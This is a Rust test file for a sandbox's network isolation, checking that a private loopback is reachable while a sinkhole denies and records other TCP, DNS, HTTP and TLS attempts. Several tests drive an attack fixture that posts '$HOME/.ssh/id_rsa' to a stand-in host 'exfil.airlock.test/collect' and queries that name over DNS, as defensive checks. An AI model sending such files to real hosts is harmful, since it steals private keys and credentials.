//! The run's private network: its own loopback (a server of the run is reachable, a listener
//! the test opened outside is not) and the sinkhole that answers every other TCP destination
//! and records what would have been sent. Every test asserts that nothing reached the test's
//! own listener and that the event carried what the attempt sent. Targets are only ever
//! loopback ports the test opened.

use std::io::{ErrorKind, Read};
use std::net::{TcpListener, UdpSocket};

use serde_json::Value;

use crate::support::{attacks, Run, Scene};

/// A listener the test opens outside the sandbox, on the host's loopback.
fn outside_listener() -> (TcpListener, String) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port().to_string();
    (listener, port)
}

#[track_caller]
fn assert_untouched(listener: &TcpListener) {
    match listener.accept() {
        Ok((mut stream, peer)) => {
            let mut got = Vec::new();
            let _ = stream.read_to_end(&mut got);
            panic!("{peer} reached the test's listener and sent {got:?}");
        }
        Err(e) => assert_eq!(e.kind(), ErrorKind::WouldBlock),
    }
}

/// The sinkhole's `connect` event for `address`.
#[track_caller]
fn sinkholed<'a>(run: &'a Run, address: &str) -> &'a Value {
    let e = run.expect("net", "connect", "denied", "address", address);
    assert_eq!(e["detail"]["sinkhole"], true, "{e:#}");
    assert!(e["pid"].as_i64().unwrap() > 0, "{e:#}");
    e
}

/// The fixture run through `sh -c`, so that its arguments may name `$HOME` inside.
fn attack_in_shell(s: &Scene, args: &str) -> Run {
    let script = format!("exec {} {args}", attacks().display());
    s.sandbox(&[], &["sh", "-c", &script])
}

airtest!(
    sandbox_net_own_server_on_the_private_loopback_is_reached_and_recorded,
    |s| {
        let run = s.attack(&[], &["own-server"]);
        assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
        assert!(
            run.stdout.contains("own server: succeeded"),
            "{}",
            run.stdout
        );
        let port = run
            .stdout
            .lines()
            .find_map(|l| l.strip_prefix("own server port "))
            .expect("the fixture prints its port");
        run.expect("net", "bind", "allowed", "address", "127.0.0.1:0");
        let e = run.expect(
            "net",
            "connect",
            "allowed",
            "address",
            &format!("127.0.0.1:{port}"),
        );
        assert_eq!(e["detail"]["protocol"], "tcp");
        // The exchange on the run's own connection is not the sinkhole's.
        assert!(run.events.iter().all(|e| e["detail"]["sinkhole"] != true));
    }
);

airtest!(
    sandbox_net_a_listener_outside_is_unreachable_and_its_port_recorded,
    |s| {
        let (listener, port) = outside_listener();
        let run = s.attack(&[], &["tcp", "127.0.0.1", &port]);
        run.refused();
        assert_untouched(&listener);
        let e = sinkholed(&run, &format!("127.0.0.1:{port}"));
        assert_eq!(e["detail"]["protocol"], "tcp");
        assert_eq!(e["detail"]["payload_kind"], "data");
        assert_eq!(e["detail"]["payload_bytes"], 14);
        let hex: String = b"airlock-marker"
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        assert_eq!(e["detail"]["payload"], format!("data {hex}"));
    }
);

airtest!(
    sandbox_net_udp_dns_after_bind_is_recorded_with_its_name,
    |s| {
        let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
        socket.set_nonblocking(true).unwrap();
        let port = socket.local_addr().unwrap().port().to_string();
        let run = s.attack(
            &[],
            &["udp-bind-dns", "exfil.airlock.test", "127.0.0.1", &port],
        );
        assert!(run.stdout.contains("udp bind: succeeded"), "{}", run.stdout);
        assert!(run.stdout.contains("dns sendto: refused"), "{}", run.stdout);
        let mut buf = [0u8; 512];
        let err = socket
            .recv(&mut buf)
            .expect_err("a datagram reached the test");
        assert_eq!(err.kind(), ErrorKind::WouldBlock);
        run.expect("net", "bind", "allowed", "address", "127.0.0.1:0");
        let e = run.expect("net", "dns", "denied", "query", "exfil.airlock.test");
        assert_eq!(e["detail"]["address"], format!("127.0.0.1:{port}"));
        assert_eq!(e["detail"]["protocol"], "udp");
    }
);

airtest!(
    sandbox_net_http_post_of_a_decoy_shows_request_and_leak,
    |s| {
        let (listener, port) = outside_listener();
        let run = attack_in_shell(
            &s,
            &format!("http-post \"$HOME/.ssh/id_rsa\" 127.0.0.1 {port}"),
        );
        run.refused();
        assert_untouched(&listener);
        let address = format!("127.0.0.1:{port}");
        let e = sinkholed(&run, &address);
        let d = &e["detail"];
        assert_eq!(d["payload_kind"], "http", "{e:#}");
        assert_eq!(d["http_method"], "POST");
        assert_eq!(d["http_path"], "/collect");
        assert_eq!(d["http_host"], "exfil.airlock.test");
        assert_eq!(d["payload"], "POST http://exfil.airlock.test/collect");
        let leak = run.expect("leak", "decoy-output", "flagged", "decoy", "ssh-key");
        assert_eq!(leak["detail"]["location"], format!("network:{address}"));
    }
);

airtest!(sandbox_net_tls_client_hello_shows_its_server_name, |s| {
    let (listener, port) = outside_listener();
    let run = s.attack(&[], &["tls-hello", "x.example", "127.0.0.1", &port]);
    run.refused();
    assert_untouched(&listener);
    let e = sinkholed(&run, &format!("127.0.0.1:{port}"));
    assert_eq!(e["detail"]["payload_kind"], "tls", "{e:#}");
    assert_eq!(e["detail"]["tls_sni"], "x.example");
    assert_eq!(e["detail"]["payload"], "TLS ClientHello for x.example");
});

/// A program that binds a routing netlink socket, lists the interfaces it sees through it
/// (`if_nameindex`, as OpenSSL's `getaddrinfo` does), then binds an audit netlink socket.
const NETLINK_PROGRAM: &str = r#"
#include <linux/netlink.h>
#include <net/if.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>

int main(void) {
  struct sockaddr_nl any;
  memset(&any, 0, sizeof any);
  any.nl_family = AF_NETLINK;
  int route = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
  int bound = route >= 0 && bind(route, (struct sockaddr *)&any, sizeof any) == 0;
  printf("route bind: %s\n", bound ? "ok" : "refused");
  struct if_nameindex *names = if_nameindex();
  printf("interfaces:");
  for (struct if_nameindex *i = names; i && i->if_index; i++) printf(" %s", i->if_name);
  printf("\n");
  int audit = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_AUDIT);
  bound = audit >= 0 && bind(audit, (struct sockaddr *)&any, sizeof any) == 0;
  printf("audit bind: %s\n", bound ? "ok" : "refused");
  return 0;
}
"#;

airtest!(
    sandbox_net_routing_netlink_sees_the_private_namespace_and_other_families_are_refused,
    |s| {
        let src = s.path("victim/netlink.c");
        std::fs::write(&src, NETLINK_PROGRAM).unwrap();
        let program = s.path("victim/netlink");
        let status = std::process::Command::new("cc")
            .arg("-o")
            .arg(&program)
            .arg(&src)
            .status()
            .expect("cc runs");
        assert!(status.success(), "compiling the netlink program failed");
        let program = program.to_str().unwrap();
        let run = s.sandbox(&["--exec", program], &[program]);
        assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
        assert!(run.stdout.contains("route bind: ok"), "{}", run.stdout);
        // Only the run's own loopback: no interface of the host is visible.
        assert!(run.stdout.contains("interfaces: lo\n"), "{}", run.stdout);
        assert!(run.stdout.contains("audit bind: refused"), "{}", run.stdout);
        let e = run.expect("net", "bind", "allowed", "address", "netlink:route");
        assert!(e["pid"].as_i64().unwrap() > 0, "{e:#}");
        run.expect("net", "bind", "denied", "address", "netlink:9");
        // The allowed bind is recorded, not reported: OpenSSL does it in every TLS build.
        assert!(!run.stderr.contains("netlink:route"), "{}", run.stderr);
        assert!(run.stderr.contains("DENIED net/bind"), "{}", run.stderr);
    }
);
